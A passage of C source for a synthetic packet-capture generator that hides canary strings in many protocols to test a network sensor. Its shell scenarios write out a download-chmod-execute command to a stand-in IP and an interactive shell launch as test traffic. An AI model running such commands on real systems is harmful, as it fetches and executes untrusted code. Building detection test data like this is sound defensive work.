	}
	if (o->pad != SIZE_MAX) {
		w_u16(w, 21);
		w_u16(w, (uint16_t)o->pad);
		w_zero(w, o->pad);
	}
}

static void hello_body(struct wbuf *w, struct gen *g, const struct hello_opts *o)
{
	static const uint16_t suites[] = {0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f,
	                                  0xc02c, 0xc030, 0xcca9, 0xcca8, 0xc013,
	                                  0xc014, 0x009c, 0x009d, 0x002f, 0x0035};
	w_u16(w, 0x0303);
	w_random(w, g, 32);
	w_u8(w, 32);
	w_random(w, g, 32);
	size_t cs = w_open(w, 2);
	if (o->grease)
		w_u16(w, grease(g));
	for (size_t i = o->tls13 ? 0 : 3; i < sizeof(suites) / sizeof(suites[0]); i++)
		w_u16(w, suites[i]);
	w_close(w, cs, 2);
	w_bytes(w, (const uint8_t[]){1, 0}, 2);
	size_t ext = w_open(w, 2);
	hello_extensions(w, g, o);
	w_close(w, ext, 2);
}

/* One TLS record holding a complete ClientHello. With pad_to, a padding extension makes the
 * record exactly pad_to bytes long when it fits. Returns the length (0 when it does not fit). */
static size_t tls_client_hello(struct gen *g, uint8_t *out, size_t cap, struct hello_opts *o,
                               size_t pad_to)
{
	uint64_t saved = g->rng;
	for (int pass = 0; pass < 2; pass++) {
		struct wbuf w = {out, 0, cap};
		g->rng = saved; /* the padded pass must draw the same random bytes */
		w_bytes(&w, (const uint8_t[]){0x16, 0x03, 0x01}, 3);
		size_t rec = w_open(&w, 2);
		w_u8(&w, 1);
		size_t hs = w_open(&w, 3);
		hello_body(&w, g, o);
		w_close(&w, hs, 3);
		w_close(&w, rec, 2);
		if (pass == 1 || pad_to == 0 || w.len + 4 > pad_to)
			return w.len <= cap ? w.len : 0;
		o->pad = pad_to - w.len - 4;
	}
	return 0;
}

static size_t tls_server_hello(struct gen *g, uint8_t *out, size_t cap, bool tls13)
{
	struct wbuf w = {out, 0, cap};
	w_bytes(&w, (const uint8_t[]){0x16, 0x03, 0x03}, 3);
	size_t rec = w_open(&w, 2);
	w_u8(&w, 2);
	size_t hs = w_open(&w, 3);
	w_u16(&w, 0x0303);
	w_random(&w, g, 32);
	w_u8(&w, 32);
	w_random(&w, g, 32);
	w_u16(&w, tls13 ? 0x1301 : 0xc02f);
	w_u8(&w, 0);
	size_t ext = w_open(&w, 2);
	if (tls13) {
		w_bytes(&w, (const uint8_t[]){0, 43, 0, 2, 3, 4}, 6);
		w_u16(&w, 51); /* a ServerHello's key_share is one entry, not a list */
		size_t ks = w_open(&w, 2);
		w_u16(&w, 0x001d);
		w_u16(&w, 32);
		w_random(&w, g, 32);
		w_close(&w, ks, 2);
	} else {
		w_bytes(&w, (const uint8_t[]){0xff, 0x01, 0, 1, 0, 0, 11, 0, 2, 1, 0, 0, 23, 0, 0},
		        15);
	}
	w_close(&w, ext, 2);
	w_close(&w, hs, 3);
	w_close(&w, rec, 2);
	return w.len <= cap ? w.len : 0;
}

/* Encodes a dotted name as DNS labels. */
static void dns_name(struct wbuf *w, const char *name)
{
	const char *s = name;
	while (*s) {
		const char *dot = strchr(s, '.');
		size_t n = dot ? (size_t)(dot - s) : strlen(s);
		w_u8(w, (uint8_t)n);
		w_bytes(w, s, n);
		s += n + (dot ? 1 : 0);
	}
	w_u8(w, 0);
}

struct dns_msg {
	uint16_t id, qtype;
	const char *qname;
	bool response;
	const uint8_t *rdata; /* the one answer's data (response only) */
	uint16_t rdlen;
};

/* A DNS message; for TCP the two-byte length comes first. */
static size_t dns_message(uint8_t *out, size_t cap, const struct dns_msg *m, bool tcp)
{
	struct wbuf w = {out, 0, cap};
	size_t len = tcp ? w_open(&w, 2) : 0;
	w_u16(&w, m->id);
	w_u16(&w, m->response ? 0x8180 : 0x0100);
	w_bytes(&w, (const uint8_t[]){0, 1, 0, m->response ? 1 : 0, 0, 0, 0, 0}, 8);
	dns_name(&w, m->qname);
	w_u16(&w, m->qtype);
	w_u16(&w, 1);
	if (m->response) {
		w_u16(&w, 0xc00c); /* the question's name */
		w_u16(&w, m->qtype);
		w_u16(&w, 1);
		w_bytes(&w, (const uint8_t[]){0, 0, 0x0e, 0x10}, 4);
		w_u16(&w, m->rdlen);
		w_bytes(&w, m->rdata, m->rdlen);
	}
	if (tcp)
		w_close(&w, len, 2);
	return w.len <= cap ? w.len : 0;
}

/* ---- canary scenario ---------------------------------------------------------------------- */

struct line {
	bool from_client;
	const char *tmpl; /* "{C}" stands for the canary */
};

/* A TCP conversation of text lines, handshake to FIN. */
static void tcp_dialog(struct gen *g, const struct path *p, uint16_t port, const struct line *l,
                       size_t n)
{
	struct tcp_conn c = {.p = *p};
	c.p.server.port = port;
	tcp_open(g, &c);
	for (size_t i = 0; i < n; i++)
		tcp_send(g, &c, l[i].from_client, g->text, expand(g, l[i].tmpl));
	tcp_close(g, &c);
}

static void udp_dialog(struct gen *g, const struct path *p, uint16_t port, const struct line *l,
                       size_t n)
{
	struct path u = *p;
	u.proto = 17;
	u.server.port = port;
	for (size_t i = 0; i < n; i++)
		udp_send(g, &u, l[i].from_client, g->text, expand(g, l[i].tmpl));
	g->flows++;
}

#define DIALOG(fn, g, p, port, lines) fn(g, p, port, lines, sizeof(lines) / sizeof(lines[0]))

static void conv_http_get(struct gen *g, const struct path *p)
{
	static const struct line l[] = {
	        {true, "GET /files/{C}/report.html?token={C}&page=2 HTTP/1.1\r\n"
	               "Host: www.innocent.example\r\n"
	               "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101\r\n"
	               "Accept: */*\r\nCookie: session={C}; theme=dark\r\n\r\n"},
	        {false, "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nConnection: close\r\n\r\n"
	                "account number {C}\r\n"},
	};
	DIALOG(tcp_dialog, g, p, 80, l);
}

static void conv_http_post(struct gen *g, const struct path *p)
{
	char body[256];
	int blen = snprintf(body, sizeof(body), "user=alice&secret=%s&note=%s", g->opt.canary,
	                    g->opt.canary);
	struct tcp_conn c = {.p = *p};
	c.p.server.port = 8080;
	tcp_open(g, &c);
	size_t n = textf(g,
	                 "POST /submit HTTP/1.1\r\nHost: forms.innocent.example:8080\r\n"
	                 "User-Agent: curl/7.88.1\r\nContent-Type: "
	                 "application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s",
	                 blen, body);
	tcp_send(g, &c, true, g->text, n);
	n = expand(g, "HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n");
	tcp_send(g, &c, false, g->text, n);
	tcp_close(g, &c);
}

static void conv_smtp(struct gen *g, const struct path *p)
{
	static const struct line l[] = {
	        {false, "220 mx.innocent.example ESMTP Postfix\r\n"},
	        {true, "EHLO client.innocent.example\r\n"},
	        {false, "250-mx.innocent.example\r\n250-SIZE 10240000\r\n250 8BITMIME\r\n"},
	        {true, "MAIL FROM:<{C}@innocent.example>\r\n"},
	        {false, "250 2.1.0 Ok\r\n"},
	        {true, "RCPT TO:<bob@innocent.example>\r\n"},
	        {false, "250 2.1.5 Ok\r\n"},
	        {true, "DATA\r\n"},
	        {false, "354 End data with <CR><LF>.<CR><LF>\r\n"},
	        {true, "From: alice@innocent.example\r\nTo: bob@innocent.example\r\n"
	               "Subject: {C}\r\nMIME-Version: 1.0\r\n"
	               "Content-Type: multipart/mixed; boundary=b1\r\n\r\n"
	               "--b1\r\nContent-Type: text/plain\r\n\r\nThe code is {C}.\r\n"
	               "--b1\r\nContent-Type: application/pdf\r\n"
	               "Content-Disposition: attachment; filename=\"{C}.pdf\"\r\n\r\n"
	               "JVBERi0xLjQK\r\n--b1--\r\n.\r\n"},
	        {false, "250 2.0.0 Ok: queued as 4F2A1\r\n"},
	        {true, "QUIT\r\n"},
	        {false, "221 2.0.0 Bye\r\n"},
	};
	DIALOG(tcp_dialog, g, p, 25, l);
}

static void conv_ftp(struct gen *g, const struct path *p)
{
	static const struct line l[] = {
	        {false, "220 ftp.innocent.example FTP server ready\r\n"},
	        {true, "USER anonymous\r\n"},
	        {false, "331 Please specify the password.\r\n"},
	        {true, "PASS guest@\r\n"},
	        {false, "230 Login successful.\r\n"},
	        {true, "RETR /pub/{C}.tar.gz\r\n"},
	        {false, "150 Opening BINARY mode data connection for {C}.tar.gz\r\n"},
	        {false, "226 Transfer complete.\r\n"},
	        {true, "QUIT\r\n"},
	        {false, "221 Goodbye.\r\n"},
	};
	DIALOG(tcp_dialog, g, p, 21, l);
}

static void conv_sip(struct gen *g, const struct path *p)
{
	static const struct line l[] = {
	        {true, "INVITE sip:bob@innocent.example SIP/2.0\r\n"
	               "Via: SIP/2.0/UDP pc33.innocent.example;branch=z9hG4bK776asdhds\r\n"
	               "Max-Forwards: 70\r\nTo: Bob <sip:bob@innocent.example>\r\n"
	               "From: \"{C}\" <sip:{C}@innocent.example>;tag=1928301774\r\n"
	               "Call-ID: a84b4c76e66710@pc33.innocent.example\r\nCSeq: 314159 INVITE\r\n"
	               "Contact: <sip:alice@pc33.innocent.example>\r\n"
	               "Content-Type: application/sdp\r\n\r\n"
	               "v=0\r\no={C} 2890844526 2890844526 IN IP4 pc33.innocent.example\r\n"
	               "s={C}\r\nt=0 0\r\nm=audio 49170 RTP/AVP 0\r\n"},
	        {false, "SIP/2.0 180 Ringing\r\n"
	                "Via: SIP/2.0/UDP pc33.innocent.example;branch=z9hG4bK776asdhds\r\n"
	                "From: \"{C}\" <sip:{C}@innocent.example>;tag=1928301774\r\n"
	                "To: Bob <sip:bob@innocent.example>;tag=a6c85cf\r\n"
	                "Call-ID: a84b4c76e66710@pc33.innocent.example\r\nCSeq: 314159 INVITE\r\n"
	                "\r\n"},
	};
	DIALOG(udp_dialog, g, p, 5060, l);
}

static void conv_tcp_raw(struct gen *g, const struct path *p)
{
	static const struct line l[] = {
	        {true, "\x01\x02hello {C} raw tcp payload\n"},
	        {false, "\x03\x04reply {C} raw tcp payload\n"},
	};
	DIALOG(tcp_dialog, g, p, 7000, l);
}

static void conv_udp_raw(struct gen *g, const struct path *p)
{
	static const struct line l[] = {
	        {true, "\x01\x02raw udp {C} datagram"},
	        {false, "\x03\x04raw udp reply {C}"},
	};
	DIALOG(udp_dialog, g, p, 7001, l);
}

static void conv_ssh(struct gen *g, const struct path *p)
{
	static const struct line l[] = {
	        {false, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"},
	        {true, "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6\r\n"},
	        {true, "\x01\x0c\x0a\x14\x8f\x31{C}\x99\x42 encrypted-looking {C}"},
	        {false, "\x01\x1c\x0a\x14\x77\x12{C}\x55"},
	};
	DIALOG(tcp_dialog, g, p, 22, l);
}

static void conv_shell_tcp(struct gen *g, const struct path *p)
{
	static const struct line l[] = {
	        {true,
	         "cd /tmp; wget -q http://198.51.100.9/x; chmod +x x; /bin/sh -c 'echo {C}'\n"},
	        {false, "uid=0(root) gid=0(root) {C}\n"},
	};
	DIALOG(tcp_dialog, g, p, 4444, l);
}

static void conv_shell_udp(struct gen *g, const struct path *p)
{
	static const struct line l[] = {
	        {true, "exec /bin/sh -i {C}"},
	        {false, "sh-5.2# {C}"},
	};
	DIALOG(udp_dialog, g, p, 5555, l);
}

static void conv_icmp_echo(struct gen *g, const struct path *p)
{
	struct path e = *p;
	e.proto = p->client.ip.family == 4 ? 1 : 58;
	size_t n = expand(g, "ping {C} ping {C}");
	for (uint16_t seq = 1; seq <= 2; seq++) {
		icmp_send(g, &e, false, seq, g->text, n);
		icmp_send(g, &e, true, seq, g->text, n);
	}
	g->flows++;
}

static void conv_dns_txt(struct gen *g, const struct path *p)
{
	struct path u = *p;
	u.proto = 17;
	u.server.port = 53;
	uint8_t rdata[256], msg[512];
	size_t clen = strlen(g->opt.canary) < 200 ? strlen(g->opt.canary) : 200;
	rdata[0] = (uint8_t)(clen + 4);
	memcpy(rdata + 1, "key=", 4);
	memcpy(rdata + 5, g->opt.canary, clen);
	struct dns_msg m = {(uint16_t)rnd(g), 16, "txt.innocent.example", false, NULL, 0};
	size_t n = dns_message(msg, sizeof(msg), &m, false);
	udp_send(g, &u, true, msg, n);
	m.response = true;
	m.rdata = rdata;
	m.rdlen = (uint16_t)(clen + 5);
	n = dns_message(msg, sizeof(msg), &m, false);
	udp_send(g, &u, false, msg, n);
	g->flows++;
}

/* An application-data record whose (pretend-encrypted) content holds the canary. */
static size_t tls_app_data(struct gen *g, uint8_t *out, size_t cap)
{
	size_t n = expand(g, "\x8e\x21{C}\x17\x42 app data {C}");
	if (n + 5 > cap)
		return 0;
	memcpy(out, (const uint8_t[]){0x17, 0x03, 0x03, (uint8_t)(n >> 8), (uint8_t)n}, 5);
	memcpy(out + 5, g->text, n);
	return n + 5;
}

static void conv_tls_ticket(struct gen *g, const struct path *p)
{
	uint8_t ticket[256], msg[2048];
	size_t tl = expand(g, "\x01\x02ticket {C} ticket");
	memcpy(ticket, g->text, tl < sizeof(ticket) ? tl : sizeof(ticket));
	struct hello_opts o = {"www.innocent.example", true,    true, true, ticket,
	                       tl < 256 ? tl : 256,    SIZE_MAX};
	struct tcp_conn c = {.p = *p};
	c.p.server.port = 443;
	tcp_open(g, &c);
	tcp_send(g, &c, true, msg, tls_client_hello(g, msg, sizeof(msg), &o, 0));
	tcp_send(g, &c, false, msg, tls_server_hello(g, msg, sizeof(msg), true));
	tcp_send(g, &c, true, msg, tls_app_data(g, msg, sizeof(msg)));
	tcp_send(g, &c, false, msg, tls_app_data(g, msg, sizeof(msg)));
	tcp_close(g, &c);
}

/* The canary cut in the middle, half in each of two segments. */
static void conv_tcp_split(struct gen *g, const struct path *p)
{
	struct tcp_conn c = {.p = *p};
	c.p.server.port = 7002;
	tcp_open(g, &c);
	size_t n = expand(g, "split: {C} :end");
	size_t cut = 7 + strlen(g->opt.canary) / 2;
	tcp_send(g, &c, true, g->text, cut);
	tcp_send(g, &c, true, g->text + cut, n - cut);
	tcp_close(g, &c);
}

/* The same segment twice, as after a lost ACK. */
static void conv_tcp_retrans(struct gen *g, const struct path *p)
{
	struct tcp_conn c = {.p = *p};
	c.p.server.port = 7003;
	tcp_open(g, &c);
	size_t n = expand(g, "retransmitted {C}\n");
	tcp_segment(g, &c, true, c.seq[0], TH_PSH | TH_ACK, g->text, n);
	tcp_segment(g, &c, true, c.seq[0], TH_PSH | TH_ACK, g->text, n);
	c.seq[0] += (uint32_t)n;
	tcp_segment(g, &c, false, c.seq[1], TH_ACK, NULL, 0);
	tcp_close(g, &c);
}

/* Two segments whose byte ranges overlap, with the canary across the overlap. */
static void conv_tcp_overlap(struct gen *g, const struct path *p)
{
	struct tcp_conn c = {.p = *p};
	c.p.server.port = 7004;
	tcp_open(g, &c);
	size_t n = expand(g, "overlap-head {C} overlap-tail {C} end\n");
	size_t a = n / 2, b = n / 4;
	tcp_segment(g, &c, true, c.seq[0], TH_PSH | TH_ACK, g->text, a);
	tcp_segment(g, &c, true, c.seq[0] + (uint32_t)b, TH_PSH | TH_ACK, g->text + b, n - b);
	c.seq[0] += (uint32_t)n;
	tcp_segment(g, &c, false, c.seq[1], TH_ACK, NULL, 0);
	tcp_close(g, &c);
}

/* A 3000-byte datagram whose canary lies past the first fragment. */
static size_t frag_payload(struct gen *g, uint8_t *out, size_t len)
{
	memset(out, 'f', len);
	size_t n = expand(g, " {C} ");
	memcpy(out + 2000, g->text, n);
	memcpy(out + len - n, g->text, n);
	return len;
}

static void conv_udp_frag(struct gen *g, const struct path *p)
{
	struct path u = *p;
	u.proto = 17;
	u.server.port = 7005;
	uint8_t data[3000];
	struct pkt *k = &g->pkt;
	for (int dir = 0; dir < 2; dir++) {
		const struct endpoint *s, *d;
		ends(&u, dir == 0, &s, &d);
		pkt_reset(k);
		pkt_append(k, data, frag_payload(g, data, sizeof(data)));
		push_udp(k, &s->ip, &d->ip, s->port, d->port);
		send_fragments(g, &u, dir == 0, k, 1232, false);
	}
	g->flows++;
}

static void conv_icmp_frag(struct gen *g, const struct path *p)
{
	struct path e = *p;
	e.proto = p->client.ip.family == 4 ? 1 : 58;
	uint8_t data[3000];
	struct pkt *k = &g->pkt;
	for (int dir = 0; dir < 2; dir++) {
		const struct endpoint *s, *d;
		ends(&e, dir == 0, &s, &d);
		pkt_reset(k);
		pkt_append(k, data, frag_payload(g, data, sizeof(data)));
		push_icmp_echo(k, &s->ip, &d->ip, dir == 1, e.client.port, 1);
		send_fragments(g, &e, dir == 0, k, 1232, true);
	}
	g->flows++;
}

typedef void (*conv_fn)(struct gen *g, const struct path *p);

static const conv_fn canary_convs[] = {
        conv_http_get,  conv_http_post, conv_smtp,        conv_ftp,         conv_sip,
        conv_tcp_raw,   conv_udp_raw,   conv_icmp_echo,   conv_dns_txt,     conv_tls_ticket,
        conv_ssh,       conv_tcp_split, conv_tcp_retrans, conv_tcp_overlap, conv_udp_frag,
        conv_icmp_frag, conv_shell_tcp, conv_shell_udp,
};

/* What runs inside each encapsulation: one of each transport, a split, fragments, a shell. */
static const conv_fn encap_convs[] = {
        conv_http_get, conv_udp_raw, conv_icmp_echo, conv_tcp_split, conv_udp_frag, conv_shell_tcp,
};

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))

static void canary_round(struct gen *g)
{
	struct path p;
	for (int family = 4; family <= 6; family += 2)
		for (int d = 0; d < DIR_COUNT; d++)
			for (size_t i = 0; i < COUNT(canary_convs); i++) {
				pick_path(g, (enum dirkind)d, family, ENCAP_NONE, &p);
				canary_convs[i](g, &p);
			}
	for (int e = ENCAP_VLAN; e < ENCAP_COUNT; e++)
		for (int family = 4; family <= 6; family += 2)
			for (int d = DIR_FF; d <= DIR_DF; d++)
				for (size_t i = 0; i < COUNT(encap_convs); i++) {
					pick_path(g, (enum dirkind)d, family, (enum encap)e, &p);
					encap_convs[i](g, &p);
				}
}

static int scenario_canary(struct gen *g)
{
	do
		canary_round(g);
	while (g->packets < g->opt.packets);
	return 0;
}

/* ---- sample scenario ---------------------------------------------------------------------- */

/* One unique name per flow: the flow number keeps names apart, the lists mix case and IDN. */
static void sample_name(struct gen *g, unsigned i, char *out, size_t cap)
{
	static const char *const hosts[] = {"www",    "api", "cdn", "Mail",          "login",
	                                    "static", "WWW", "img", "xn--bcher-kva", "Update"};
	static const char *const domains[] = {
	        "example.com",      "Example.NET",           "shop.example.co.jp",
	        "xn--r8jz45g.jp",   "test-site.org",         "xn--eckwd4c7c.xn--zckzah",
	        "News.Example.ORG", "xn--fiqs8s.xn--fiqz9s", "a.b.c.deep-name.example",
	};
	snprintf(out, cap, "%s%u.%s", hosts[rnd_below(g, COUNT(hosts))], i,
	         domains[rnd_below(g, COUNT(domains))]);
}

static uint16_t pick_port(struct gen *g, uint16_t usual, uint16_t alt1, uint16_t alt2)
{
	unsigned r = rnd_below(g, 10);
	return r == 0 ? alt1 : r == 1 ? alt2 : usual;
}

static void sample_dns_udp(struct gen *g, struct path *p, const char *name)
{
	uint8_t msg[512], addr[16];
	bool aaaa = chance(g, 40);
	fill_random(g, addr, sizeof(addr));
	p->proto = 17;
	p->server.port = pick_port(g, 53, 5353, 8053);
	struct dns_msg m = {(uint16_t)rnd(g), aaaa ? 28 : 1, name, false, NULL, 0};
	udp_send(g, p, true, msg, dns_message(msg, sizeof(msg), &m, false));
	m.response = true;
	m.rdata = addr;
	m.rdlen = aaaa ? 16 : 4;
	udp_send(g, p, false, msg, dns_message(msg, sizeof(msg), &m, false));
	g->flows++;
}

static void sample_dns_tcp(struct gen *g, struct path *p, const char *name)
{
	uint8_t msg[512], addr[16];
	bool aaaa = chance(g, 40);
	fill_random(g, addr, sizeof(addr));
	struct tcp_conn c = {.p = *p};
	c.p.server.port = chance(g, 70) ? 53 : 8053;
	tcp_open(g, &c);
	struct dns_msg m = {(uint16_t)rnd(g), aaaa ? 28 : 1, name, false, NULL, 0};
	tcp_send(g, &c, true, msg, dns_message(msg, sizeof(msg), &m, true));
	m.response = true;
	m.rdata = addr;
	m.rdlen = aaaa ? 16 : 4;
	tcp_send(g, &c, false, msg, dns_message(msg, sizeof(msg), &m, true));
	tcp_close(g, &c);
}

static void sample_tls(struct gen *g, struct path *p, const char *name)
{
	uint8_t msg[2048];
	bool tls13 = chance(g, 60);
	struct hello_opts o = {name, tls13, chance(g, 50), chance(g, 70), NULL, 0, SIZE_MAX};
	struct tcp_conn c = {.p = *p};
	c.p.server.port = pick_port(g, 443, 8443, 9999);
	tcp_open(g, &c);
	tcp_send(g, &c, true, msg,
	         tls_client_hello(g, msg, sizeof(msg), &o, chance(g, 30) ? 517 : 0));
	tcp_send(g, &c, false, msg, tls_server_hello(g, msg, sizeof(msg), tls13));
	tcp_close(g, &c);
}

static void sample_http(struct gen *g, struct path *p, const char *name, unsigned i)
{
	static const char *const agents[] = {
	        "curl/7.88.1",
	        /* One agent over two lines: parentheses tell clang the concatenation is meant. */
	        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
	         "Chrome/120.0.0.0 Safari/537.36"),
	        "python-requests/2.28.1",
	        "Wget/1.21.3",
	        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15",
	};
	struct tcp_conn c = {.p = *p};
	c.p.server.port = pick_port(g, 80, 8080, 31337);
	char host[300];
	if (c.p.server.port == 80)
		snprintf(host, sizeof(host), "%s", name);
	else
		snprintf(host, sizeof(host), "%s:%u", name, c.p.server.port);
	const char *ua = agents[rnd_below(g, COUNT(agents))];
	tcp_open(g, &c);
	size_t n;
	if (chance(g, 70))
		n = textf(g,
		          "GET /page%u.html HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\n"
		          "Accept: */*\r\n\r\n",
		          i, host, ua);
	else
		n = textf(g,
		          "POST /api/v1/items HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\n"
		          "Content-Type: application/json\r\nContent-Length: 13\r\n\r\n"
		          "{\"item\":%04u}",
		          host, ua, i % 10000);
	tcp_send(g, &c, true, g->text, n);
	n = textf(g,
	          "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 20\r\n\r\n"
	          "<html>%08u</html>",
	          i);
	tcp_send(g, &c, false, g->text, n);
	tcp_close(g, &c);
}

static void sample_flow(struct gen *g, unsigned i)
{
	static const enum dirkind dirs[] = {DIR_FF, DIR_FF, DIR_FD, DIR_FD,        DIR_DF,
	                                    DIR_DF, DIR_FF, DIR_DD, DIR_DD_PRIVATE};
	char name[256];
	struct path p;
	pick_path(g, dirs[rnd_below(g, COUNT(dirs))], chance(g, 30) ? 6 : 4, ENCAP_NONE, &p);
	p.client.port = (uint16_t)(20000 + i % 40000); /* unique 5-tuples for exact comparison */
	sample_name(g, i, name, sizeof(name));
	unsigned r = rnd_below(g, 100);
	if (r < 35)
		sample_dns_udp(g, &p, name);
	else if (r < 40)
		sample_dns_tcp(g, &p, name);
	else if (r < 70)
		sample_tls(g, &p, name);
	else
		sample_http(g, &p, name, i);
}

static int scenario_sample(struct gen *g)
{
	uint64_t flows = g->opt.flows ? g->opt.flows : 300;
	for (unsigned i = 0; i < flows || g->packets < g->opt.packets; i++)
		sample_flow(g, i);
	return 0;
}

/* ---- bench scenario ----------------------------------------------------------------------- */

enum bench_class { BC_PLAIN, BC_IP, BC_SNI, BC_HOST, BC_SHELL, BC_ELF, BC_COUNT };
enum bench_app { BA_RAW, BA_TLS, BA_HTTP, BA_DNS };
enum size_class { SZ_SMALL, SZ_MEDIUM, SZ_LARGE, SZ_OTHER, SZ_COUNT };

struct bench_flow {
	struct tcp_conn conn; /* path, and sequence numbers for TCP */
	uint32_t npkts, sent;
	uint8_t cls, app;
	bool foreign_end;
};

struct bench_stats {
	uint64_t size[SZ_COUNT];
	uint64_t foreign_end_packets;
	uint64_t open, max_open;
	uint64_t cls[BC_COUNT];
	uint64_t proto[3]; /* TCP, UDP, ICMP flows */
};

static const char *const bench_class_names[BC_COUNT] = {"plain", "ip",    "sni",
                                                        "host",  "shell", "elf"};

static enum bench_class bench_pick_class(struct gen *g)
{
	unsigned r = rnd_below(g, 1000);
	return r < 15   ? BC_IP
	       : r < 25 ? BC_SNI
	       : r < 35 ? BC_HOST
	       : r < 45 ? BC_SHELL
	       : r < 50 ? BC_ELF
	                : BC_PLAIN;
}

static enum dirkind bench_pick_dir(struct gen *g, bool selectable)
{
	unsigned r = rnd_below(g, 100);
	if (selectable)
		return r < 40 ? DIR_FF : r < 75 ? DIR_FD : DIR_DF;
	if (r < 25)
		return r < 5 ? DIR_DD_PRIVATE : DIR_DD;
	return r < 55 ? DIR_FF : r < 80 ? DIR_FD : DIR_DF;
}

static uint8_t bench_pick_proto(struct gen *g, enum bench_class c)
{
	unsigned r = rnd_below(g, 100);
	if (c != BC_PLAIN && c != BC_IP)
		return 6;
	return r < 70 ? 6 : r < 97 || c == BC_IP ? 17 : 1;
}

static enum bench_app bench_pick_app(struct gen *g, enum bench_class c, uint8_t proto)
{
	unsigned r = rnd_below(g, 100);
	if (c == BC_SNI)
		return BA_TLS;
	if (c == BC_HOST)
		return BA_HTTP;
	if (c == BC_SHELL || c == BC_ELF || proto == 1)
		return BA_RAW;
	if (proto == 17)
		return r < 40 ? BA_DNS : BA_RAW;
	return r < 25 ? BA_TLS : r < 40 ? BA_HTTP : BA_RAW;
}

static uint16_t bench_server_port(struct gen *g, const struct bench_flow *f)
{
	static const uint16_t tcp_raw[] = {22, 25, 8080, 3389, 5222, 6379, 4444};
	static const uint16_t udp_raw[] = {123, 4500, 443, 1194, 3478, 5060};
	switch (f->app) {
	case BA_TLS:
		return 443;
	case BA_HTTP:
		return 80;
	case BA_DNS:
		return 53;
	default:
		break;
	}
	if (f->conn.p.proto == 1)
		return (uint16_t)rnd(g); /* the echo identifier */
	if (f->conn.p.proto == 6)
		return tcp_raw[rnd_below(g, COUNT(tcp_raw))];
	return udp_raw[rnd_below(g, COUNT(udp_raw))];
}

static void bench_init_flow(struct gen *g, struct bench_flow *f, struct bench_stats *st)
{
	enum bench_class c = bench_pick_class(g);
	enum dirkind d = bench_pick_dir(g, c != BC_PLAIN);
	memset(f, 0, sizeof(*f));
	pick_path(g, d, chance(g, 25) ? 6 : 4, ENCAP_NONE, &f->conn.p);
	if (c == BC_IP) { /* move the foreign end into the targeted ranges */
		int fam = f->conn.p.client.ip.family;
		pick_addr(g, ZONE_TARGET, fam,
		          d == DIR_DF ? &f->conn.p.server.ip : &f->conn.p.client.ip);
	}
	f->cls = (uint8_t)c;
	f->conn.p.proto = bench_pick_proto(g, c);
	if (f->conn.p.proto == 1 && f->conn.p.client.ip.family == 6)
		f->conn.p.proto = 58;
	f->app = (uint8_t)bench_pick_app(g, c, f->conn.p.proto);
	f->conn.p.server.port = bench_server_port(g, f);
	f->conn.seq[0] = (uint32_t)rnd(g);
	f->conn.seq[1] = (uint32_t)rnd(g);
	f->foreign_end = d != DIR_DD && d != DIR_DD_PRIVATE;
	f->npkts = f->conn.p.proto == 6 ? 5 : 2;
	st->cls[c]++;
	st->proto[f->conn.p.proto == 6 ? 0 : f->conn.p.proto == 17 ? 1 : 2]++;
}

/* Spreads the packets beyond each flow's minimum with a heavy-tailed weight, exactly. */
static int bench_plan_lengths(struct gen *g, struct bench_flow *flows, uint32_t n, uint64_t packets)
{
	static const uint8_t weights[] = {1, 1, 1, 1, 1, 2, 2, 3, 4, 6, 10, 30};
	uint64_t min_total = 0, wsum = 0, used = 0;
	uint8_t *w = malloc(n);
	if (!w)
		return -1;
	for (uint32_t i = 0; i < n; i++) {
		min_total += flows[i].npkts;
		w[i] = weights[rnd_below(g, COUNT(weights))];
		wsum += w[i];
	}
	if (min_total > packets) {
		free(w);
		fprintf(stderr,
		        "acd-pcapgen: --packets %" PRIu64 " is too few for these flows "
		        "(at least %" PRIu64 ")\n",
		        packets, min_total);
		return -1;
	}
	uint64_t rest = packets - min_total;
	for (uint32_t i = 0; i < n; i++) {
		uint64_t extra = rest * w[i] / wsum;
		flows[i].npkts += (uint32_t)extra;
		used += extra;
	}
	for (; used < rest; used++)
		flows[rnd_below(g, n)].npkts++;
	free(w);
	return 0;
}

/* Chooses the size class that lags its 7:4:1 share the most, so the file ends up IMIX-like
 * whatever the control packets took. */
static enum size_class bench_pick_size(const struct bench_stats *st)
{
	static const unsigned share[3] = {7, 4, 1};
	uint64_t total = st->size[0] + st->size[1] + st->size[2] + st->size[3] + 1;
	int best = 0;
	double best_lag = -1e300;
	for (int c = 0; c < 3; c++) {
		double lag = (double)total * share[c] / 12.0 - (double)st->size[c];
		if (lag > best_lag) {
			best_lag = lag;
			best = c;
		}
	}
	return (enum size_class)best;
}

static size_t ip_size_of(struct gen *g, enum size_class c)
{
	return c == SZ_SMALL ? 40 + rnd_below(g, 25) : c == SZ_MEDIUM ? 576 : 1500;
}

/* Random filler for a packet of IP size `ip_size` (the headers' size `hdr` taken off). */
static size_t bench_noise(struct gen *g, uint8_t *out, size_t ip_size, size_t hdr)
{
	size_t n = ip_size > hdr ? ip_size - hdr : 0;
	memcpy(out, g->noise + rnd_below(g, NOISE_LEN - 1500), n);
	return n;
}

static size_t bench_hdr(const struct bench_flow *f)
{
	size_t ip = f->conn.p.client.ip.family == 4 ? 20 : 40;
	return ip + (f->conn.p.proto == 6 ? 20 : 8);
}

/* The first payload of a TCP flow, client to server: what the sensor detects the app from and
 * where the selectable flows carry their name or signature. */
static size_t bench_first_tcp_payload(struct gen *g, const struct bench_stats *st,
                                      struct bench_flow *f, uint8_t *out)
{
	size_t hdr = bench_hdr(f), n;
	char name[64];
	unsigned r = rnd_below(g, 100000);
	if (f->cls == BC_SHELL) {
		n = bench_noise(g, out, 576, hdr);
		memcpy(out + rnd_below(g, (uint32_t)(n - 16)), "/bin/sh", 7);
		return n;
	}
